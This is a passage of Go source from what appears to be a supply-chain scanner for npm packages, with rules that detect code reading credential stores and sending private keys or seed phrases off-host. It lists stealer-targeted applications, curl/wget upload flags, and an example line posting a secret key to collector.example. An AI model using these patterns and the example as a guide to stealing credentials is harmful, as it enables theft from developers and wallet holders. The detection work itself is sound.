	alts := strings.Split(p[i+1:j], ",")
	out := make([]string, 0, min(len(alts), 32))
	for _, alt := range alts[:min(len(alts), 32)] {
		out = append(out, p[:i]+alt+p[j+1:])
	}
	return out
}

// callHost returns the host of the constant URL of the file's call at pos
// to callee when it is not trusted for the package; "" otherwise.
func callHost(t *analyze.Target, f *jsast.Facts, pos jsast.Pos, callee string) string {
	for _, c := range f.Calls {
		if c.Pos != pos || c.Callee != callee {
			continue
		}
		for _, a := range c.Args {
			if u := rulekit.ExternalURL(t, rulekit.Text(a)); u != "" {
				return rulekit.Host(u)
			}
		}
	}
	return ""
}

// Check implements analyze.Rule.
func (FileAccess) Check(ctx context.Context, t *analyze.Target, r analyze.Reporter) error {
	for _, f := range rulekit.Code(ctx, t) {
		if secretSent(t, f, r) {
			continue
		}
		// a token asked of its own CLI: release tools do this when a
		// developer runs them; install-time code has no use for one
		tokenCLI(f, r)
		if runnerMemory(f, r) {
			continue
		}
		if f.Role == analyze.RoleInstall {
			dotEnv(f, r)
		}
		reads := false
		for _, c := range f.Facts.Calls {
			switch rulekit.Last(c.Callee) {
			case "readFile", "readFileSync", "createReadStream", "readdir", "readdirSync", "copyFile", "copyFileSync", "existsSync", "exec", "execSync":
				reads = true
			}
		}
		best, line, snip, what := 0, 0, "", ""
		strong := map[string]bool{}
		urls := false // somewhere to send it, even without a call here
		for _, s := range f.Facts.Strings {
			urls = urls || strings.Contains(s.Value, "://")
			// every match holds a {6} or {84} quantifier: skip the regexp otherwise
			if (strings.Contains(s.Value, "{6}") || strings.Contains(s.Value, "{84}")) && discordToken.MatchString(s.Value) {
				strong["discord token pattern"] = true
				if best < 2 {
					best, line, snip, what = 2, s.Pos.Line, s.Snippet.String(), "Discord token pattern"
				}
				continue
			}
			if s.Pattern {
				// a scanner's signature (/\.npmrc|\.ssh\/id_rsa/), not a path
				continue
			}
			lvl, m := rulekit.SensitivePath(s.Value)
			if lvl == 2 {
				strong[storeKey(s.Value, m)] = true
			}
			if lvl > best {
				best, line, snip, what = lvl, s.Pos.Line, s.Snippet.String(), m
			}
		}
		configFile := best == 1 // .npmrc, .yarnrc: config that can hold a token
		profileRoots := false
		if best == 2 && len(strong) < 3 && onlyProfileRoots(strong) {
			// "Chrome/User Data" alone is where a browser launcher looks
			best, profileRoots = 1, true
		}
		if len(strong) >= 3 {
			reads = true // a target list of stores: a stealer
			what = fmt.Sprintf("%s and %d more", what, len(strong)-1)
		}
		if best == 0 {
			continue
		}
		network := false
		for _, c := range f.Facts.Calls {
			if rulekit.IsNetCall(c) {
				network = true
				break
			}
		}
		sev := finding.SeverityMedium
		switch {
		case best == 2 && reads && len(strong) < 3 && machineOnly(strong) && rulekit.SentHost(t, f.Facts) == "" && t.Role(f.Name) != analyze.RoleInstall:
			// a cloud SDK's workload identity reads the pod's token to
			// exchange it with its own service; alone, with no request to
			// a constant host out there, that is a machine credential
			// used as meant
			sev = finding.SeverityMedium
		case best == 2 && reads:
			sev = finding.SeverityHigh
		case best == 1 && reads && rulekit.SentHost(t, f.Facts) != "" && f.Facts.Size < jsast.BundleSize && !profileRoots:
			// reads .npmrc or /etc/passwd next to a request to a constant
			// foreign host (package managers send to the registry the
			// configuration names)
			sev = finding.SeverityHigh
		case best == 1 && !reads:
			sev = finding.SeverityLow
		case configFile && !network && !urls && t.Role(f.Name) != analyze.RoleInstall:
			// a config reader (.npmrc's registry, .yarnrc's settings)
			// with nowhere to send what it reads
			sev = finding.SeverityLow
		}
		if len(strong) < 3 && !network && t.Role(f.Name) != analyze.RoleInstall && strings.Contains(what, ".ssh") {
			// a deploy tool handing the user's key to its SSH client
			if m := sshClient(t, f.Facts); m != "" {
				r.Report(analyze.Instance{File: f.Name, Line: line, Severity: finding.SeverityLow,
					Message: fmt.Sprintf("looks up SSH key %q for the SSH client it loads (%s)", what, m), Evidence: rulekit.Ev(snip, "", "")})
				continue
			}
		}
		if len(strong) < 3 && allOverridden(f.Facts, strong) {
			// (an override covers its own store only: a file that reads
			// another one beside it is not that tool's lookup)
			if v := override(f.Facts, what); v != "" {
				r.Report(analyze.Instance{File: f.Name, Line: line, Severity: finding.SeverityLow,
					Message: fmt.Sprintf("looks up credential store %q the way its own tool does (honours %s)", what, v), Evidence: rulekit.Ev(snip, "", "")})
				continue
			}
		}
		if sev == finding.SeverityHigh && len(strong) >= 3 && !f.Facts.Bundle() {
			// a target list of stores, and curl or wget kept to upload
			// what is written to their input to a constant URL
			if u := stdinUpload(t, f.Facts); u != "" {
				r.Report(analyze.Instance{File: f.Name, Line: line, Severity: finding.SeverityCritical, Confidence: finding.ConfidenceMedium,
					Message:  fmt.Sprintf("reads credential stores (%s) and writes to the input of a process set to upload it to %s", what, u),
					Evidence: rulekit.Ev(snip, u, "")})
				continue
			}
		}
		r.Report(analyze.Instance{File: f.Name, Line: line, Severity: sev, Message: fmt.Sprintf("references credential store %q", what), Evidence: rulekit.Ev(snip, "", "")})
	}
	return nil
}

// stdinUpload returns the external URL of a file that writes to a child
// process's input (p.stdin.end(data)) and holds the arguments that make
// curl or wget upload their input (--data-binary @-, -T -,
// --post-file=/dev/stdin) next to that URL; "" if it does not.
func stdinUpload(t *analyze.Target, f *jsast.Facts) string {
	if !slices.ContainsFunc(f.Calls, func(c jsast.Call) bool {
		return strings.HasSuffix(c.Callee, ".stdin.end") || strings.HasSuffix(c.Callee, ".stdin.write")
	}) {
		return ""
	}
	upload, url := false, ""
	for i, s := range f.Strings {
		v := s.Value
		switch {
		case v == "@-" || v == "--post-file=/dev/stdin" || v == "--upload-file=-" || v == "--data-binary=@-":
			upload = true
		case (v == "--data-binary" || v == "-d" || v == "--data" || v == "-T" || v == "--upload-file" || v == "-F") && i+1 < len(f.Strings) &&
			(f.Strings[i+1].Value == "@-" || f.Strings[i+1].Value == "-"):
			upload = true
		case url == "" && (strings.HasPrefix(v, "https://") || strings.HasPrefix(v, "http://")):
			if u := rulekit.ExternalURL(t, v); u != "" {
				url = u
			}
		}
	}
	if !upload {
		return ""
	}
	return url
}

// storeKey identifies one store for counting a target list: a browser's
// profile roots count once per browser (Chrome's stable, beta and canary
// roots are what a launcher looks for; a stealer lists several browsers),
// and the files of one store once (a service account's token, ca.crt and
// namespace), per application that keeps it.
func storeKey(s, m string) string {
	l := strings.ToLower(m)
	if strings.HasSuffix(l, "user data") {
		for _, b := range []string{"chrome", "brave", "edge", "opera"} {
			if strings.HasPrefix(l, b) {
				return b + " user data"
			}
		}
	}
	key := strings.ReplaceAll(l, `\`, "/")
	ls := strings.ToLower(s)
	for _, app := range storeApps {
		if strings.Contains(ls, app) {
			return app + " " + key
		}
	}
	return key
}

// storeApps are applications whose stores have the same file names
// (Login Data, Cookies, Local Storage/leveldb): each counts apart.
var storeApps = []string{"chromium", "chrome", "brave", "edge", "opera", "vivaldi", "yandex", "firefox", "discord", "slack", "teams", "signal", "element", "exodus", "atomic"}

// onlyProfileRoots reports a set of stores that are all browser profile
// roots.
func onlyProfileRoots(strong map[string]bool) bool {
	for k := range strong {
		if !strings.HasSuffix(k, " user data") {
			return false
		}
	}
	return true
}

// machineOnly reports stores that are all a machine's own workload
// identity: the pod's service-account token, the cloud metadata
// services' credential paths (what a cloud SDK's provider chain asks).
func machineOnly(strong map[string]bool) bool {
	for k := range strong {
		if !strings.Contains(k, "serviceaccount") && !strings.Contains(k, "service-accounts") && !strings.Contains(k, "security-credentials") {
			return false
		}
	}
	return len(strong) > 0
}

// sshClients are SSH client libraries: a file loading one uses an SSH
// key to connect where its user says.
var sshClients = map[string]bool{"ssh2": true, "node-ssh": true, "ssh2-sftp-client": true, "simple-ssh": true, "ssh2-promise": true}

// sshClient returns the SSH client library the file loads, or the
// package depends on (its config module finds the key, another connects);
// "" if none.
func sshClient(t *analyze.Target, f *jsast.Facts) string {
	for _, im := range f.Imports {
		if sshClients[im.Module] {
			return im.Module
		}
	}
	if m, _ := t.Manifest(); m != nil {
		for _, name := range slices.Sorted(maps.Keys(sshClients)) {
			if _, ok := m.Dependencies[name]; ok {
				return name
			}
		}
	}
	return ""
}

// overrides are the variables each credential store's own tool reads to
// find it elsewhere, keyed by a piece of the store's path.
var overrides = []struct {
	store string
	vars  []string
}{
	{".aws", []string{"AWS_SHARED_CREDENTIALS_FILE", "AWS_CONFIG_FILE"}},
	{"gcloud", []string{"CLOUDSDK_CONFIG", "GOOGLE_APPLICATION_CREDENTIALS"}},
	{".kube", []string{"KUBECONFIG"}},
	{".docker", []string{"DOCKER_CONFIG"}},
	{".azure", []string{"AZURE_CONFIG_DIR"}},
	{".npmrc", []string{"NPM_CONFIG_USERCONFIG", "npm_config_userconfig"}},
	{".netrc", []string{"NETRC"}},
	// cloud SDKs' own metadata and in-cluster lookups
	{"security-credentials", []string{"AWS_EC2_METADATA_DISABLED", "AWS_EC2_METADATA_SERVICE_ENDPOINT", "AWS_EC2_METADATA_V1_DISABLED",
		"AWS_CONTAINER_CREDENTIALS_RELATIVE_URI", "AWS_CONTAINER_CREDENTIALS_FULL_URI", "GCE_METADATA_HOST", "GCE_METADATA_IP", "IDENTITY_ENDPOINT", "IMDS_ENDPOINT", "MSI_ENDPOINT", "AZURE_POD_IDENTITY_AUTHORITY_HOST"}},
	{"service-accounts", []string{"GCE_METADATA_HOST", "GCE_METADATA_IP", "METADATA_SERVER_DETECTION"}},
	{"serviceaccount", []string{"KUBERNETES_SERVICE_HOST", "AZURE_FEDERATED_TOKEN_FILE", "AWS_WEB_IDENTITY_TOKEN_FILE"}},
	{"hosts.yml", []string{"GH_CONFIG_DIR"}},
	{".terraform.d", []string{"TF_CLI_CONFIG_FILE", "TERRAFORM_CONFIG"}},
	// Chrome's own variables for its profile directory
	{"user data", []string{"CHROME_USER_DATA_DIR", "CHROME_CONFIG_HOME"}},
	// AI coding assistants' own configuration directories
	{".claude", []string{"CLAUDE_CONFIG_DIR"}},
	{".codex", []string{"CODEX_HOME"}},
}

// allOverridden reports that the file honours the override variable of
// every store it names (strong's keys), or names none.
func allOverridden(f *jsast.Facts, strong map[string]bool) bool {
	for k := range strong {
		if override(f, k) == "" {
			return false
		}
	}
	return true
}

// override returns the override variable of the store named in what that
// the file reads or names, "" if none.
func override(f *jsast.Facts, what string) string {
	w := strings.ToLower(what)
	for _, o := range overrides {
		if !strings.Contains(w, o.store) {
			continue
		}
		for _, v := range o.vars {
			for _, e := range f.Env {
				if e.Name == v {
					return v
				}
			}
			for _, s := range f.Strings {
				if s.Value == v {
					return v
				}
			}
		}
	}
	return ""
}

// SecretExfil flags private keys or seed phrases handed to code that sends them off-host.
type SecretExfil struct{}

// Meta implements analyze.Rule.
func (SecretExfil) Meta() analyze.Meta {
	return analyze.Meta{
		ID: "cred/secret-exfil", Version: 5, Title: "Sends private keys or seed phrases to the network",
		Help: "A value named like a private key, secret key, mnemonic or seed phrase is passed to a network call, or to a local function whose body " +
			"posts to a hard-coded URL (a bare call counts only when it calls that very function: bundles reuse one-letter names, and a name " +
			"alone would match them all). In a file that loads a wallet library (ethers, web3, bip39, @solana/web3.js…) the short names " +
			"such code uses count too: pk, phrase, words (fromMnemonic(phrase) posting phrase); key alone is every cache's. Wallet libraries sign locally; sending key " +
			"material anywhere is theft (the @solana/web3.js 1.95.6-7 backdoor). SECRET_KEY in upper case, as configuration spells it, is a " +
			"service's API secret, which its SDK sends to that service to authenticate: it counts only in a file that loads a wallet library. " +
			"The sending function may live in another file of the package that the caller loads (checkValidityOfSeed(privateKey) " +
			"in xrpl.js 4.2.1, its request in a utility module).",
		Remediation:     "Do not use this version; move funds from any key it handled.",
		Example:         `function q(k){ fetch("https://collector.example/q", {headers: {"x-id": k}}) } q(keypair.secretKey)`,
		DefaultSeverity: finding.SeverityCritical, Signal: analyze.SigWallet, Needs: analyze.NeedCode,
	}
}

// secretToImported reports a call, in f, of a sending function another
// file of the package defines, handed a secret-named value:
// checkValidityOfSeed(privateKey) with the request in utils/validate.js
// (the xrpl.js 4.2.1 backdoor). The call is found in f's text by the
// function's name; f must load that file.
func secretToImported(t *analyze.Target, f analyze.CodeFile, senders map[string][]string, wallet bool, r analyze.Reporter) {
	var src string
	for _, im := range f.Facts.Imports {
		g := t.Resolve(f.Name, im.Module)
		if g == "" || g == f.Name || len(senders[g]) == 0 {
			continue
		}
		if src == "" {
			b, err := t.Read(f.Name)
			if err != nil {
				return
			}
			src = string(b[:min(len(b), rulekit.ModuleSize)])
		}
		for _, fn := range senders[g] {
			for off, n := 0, 0; n < 8; n++ {
				i := strings.Index(src[off:], fn+"(")
				if i < 0 {
					break
				}
				at := off + i
				off = at + len(fn) + 1
				if at > 0 && js.IsIdentifierEnd([]byte(src[max(0, at-4):at])) {
					continue // another name ending in fn
				}
				end := strings.IndexAny(src[off:], ",)")
				if end < 0 {
					break
				}
				name := strings.TrimSpace(src[off : off+end])
				if k := strings.LastIndexByte(name, '.'); k >= 0 {
					name = name[k+1:] // this.privateKey
				}
				if secretName.MatchString(name) && (wallet || !apiSecretName.MatchString(name)) || wallet && walletSecretName.MatchString(name) {
					r.Report(analyze.Instance{File: f.Name, Line: 1 + strings.Count(src[:at], "\n"), Confidence: finding.ConfidenceHigh,
						Message: fmt.Sprintf("passes %q to %s() of %s, which sends it to the network", name, fn, g)})
					return
				}
			}
		}
	}
}

var secretName = regexp.MustCompile(`(?i)^_?(private_?key|secret_?key|mnemonic|seed_?phrase|seed|priv_?key|wallet_?key|keypair)s?$`)

// apiSecretName matches a service's API secret as configuration spells
// it (SECRET_KEY): an SDK sends it to its own service to authenticate.
// A key pair's secretKey is written in camel case.
var apiSecretName = regexp.MustCompile(`^_?SECRET_?KEYS?$`)

// walletSecretName matches the short names wallet code gives key material
// (fromMnemonic(phrase), sign(pk)): counted only in a file that loads a
// wallet library.
var walletSecretName = regexp.MustCompile(`(?i)^_?(pk|phrase|words)$`)

// walletLibrary reports a module that holds or derives wallet keys.
func walletLibrary(m string) bool {
	switch m {
	case "ethers", "web3", "viem", "bip39", "bip32", "hdkey", "ed25519-hd-key", "tweetnacl", "bitcoinjs-lib", "ethereumjs-wallet", "@solana/web3.js", "ethereum-cryptography":
		return true
	}
	return strings.HasPrefix(m, "@ethersproject/") || strings.HasPrefix(m, "@scure/bip") || strings.HasPrefix(m, "@ethereumjs/")
}

// Check implements analyze.Rule.
func (SecretExfil) Check(ctx context.Context, t *analyze.Target, r analyze.Reporter) error {
	code := rulekit.Code(ctx, t)
	senders := map[string][]string{} // file -> its functions that send
	for _, f := range code {
		if len(f.Facts.Senders) > 0 {
			senders[f.Name] = f.Facts.Senders
		}
	}
	for _, f := range code {
		wallet := false
		for _, im := range f.Facts.Imports {
			wallet = wallet || walletLibrary(im.Module)
		}
		if len(senders) > 0 {
			secretToImported(t, f, senders, wallet, r)
		}
		for _, c := range f.Facts.Calls {
			sender := rulekit.IsNetCall(c) || c.Sender
			if !sender {
				continue
			}
			for _, a := range c.Args {
				hit := ""
				for _, n := range a.Names {
					if secretName.MatchString(n) && (wallet || !apiSecretName.MatchString(n)) || wallet && walletSecretName.MatchString(n) {
						hit = n
						break
					}
				}
				if hit != "" {
					r.Report(analyze.Instance{File: f.Name, Line: c.Pos.Line, Confidence: finding.ConfidenceHigh,
						Message: fmt.Sprintf("passes %q to %s(), which sends it to the network", hit, c.Callee), Evidence: rulekit.Ev(c.Snippet.String(), "", "")})
					break
				}
			}
		}
	}
	return nil
}
